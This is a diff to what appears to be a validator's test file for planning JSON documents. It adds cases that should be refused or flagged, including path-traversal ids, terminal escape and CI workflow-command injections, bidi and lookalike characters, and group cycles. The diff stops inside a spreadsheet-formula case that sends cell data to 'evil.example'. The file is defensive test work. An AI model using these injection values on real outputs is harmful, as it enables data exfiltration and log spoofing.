@@ -113,7 +113,8 @@ const cases = {
 
 // Values that pass a plain type check but break later, and values aimed at the outputs
 // (file names, terminals, CI logs, spreadsheets): refused with a code (exit 2), reported by a
-// validator rule (a KH code, exit 1 from `validate`), or accepted and neutralised ('ok').
+// validator rule (a KH code: the plan loads, and `validate` exits 1), or accepted and
+// neutralised on output ('ok').
 Object.assign(cases, {
   'id-parent-folder.json': [edit((p) => (p.id = '../package')), 'schema/unsafe-file-name'],
   'id-far-outside.json': [edit((p) => (p.id = '../../../elsewhere/x')), 'schema/unsafe-file-name'],
@@ -131,6 +132,19 @@ Object.assign(cases, {
   'end-of-year-2101.json': [edit((p) => (task(p).deadlines = [{ kind: 'end-of', period: 'year', year: 2101 }])), 'schema/out-of-range'],
   'unknown-key-escape-sequence.json': [edit((p) => (p['x\u001b[2J\u0007\u0000'] = 1)), 'schema/unknown-field'],
   'unknown-key-workflow-command.json': [edit((p) => (task(p)['x\n::error file=README.md::owned\n'] = 1)), 'schema/unknown-field'],
+  'unit-name-bidi-override.json': [edit((p) => (p.units[1].name = 'Sở \u202eY tế')), 'KH701'],
+  'unit-name-zero-width.json': [edit((p) => (p.units[1].name = 'Sở Y\u200b tế')), 'KH701'],
+  'unit-name-line-separator.json': [edit((p) => (p.units[2].name = 'Sở Tài chính\u2028Sở Y tế')), 'KH701'],
+  'unit-name-cyrillic-o.json': [edit((p) => (p.units[2].name = 'S\u043e\u031b\u0309 Y tế'.normalize('NFC'))), 'KH125'],
+  'unit-name-greek-lookalike.json': [edit((p) => (p.units[2].name = 'S\u03bf\u031b\u0309 Y tế'.normalize('NFC'))), 'KH125'],
+  'group-contains-itself.json': [edit((p) => p.groups[0].members.push('soNganh')), 'KH124'],
+  'groups-nested-cycle.json': [
+    edit((p) => {
+      p.groups.push({ key: 'tatCa', name: 'Các sở, ngành, địa phương', members: ['soNganh'], mode: 'each', complete: true });
+      p.groups[0].members.push('tatCa');
+    }),
+    'KH124',
+  ],
   'csv-formulas.json': [
     edit((p) => {
       p.units[1].name = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")';
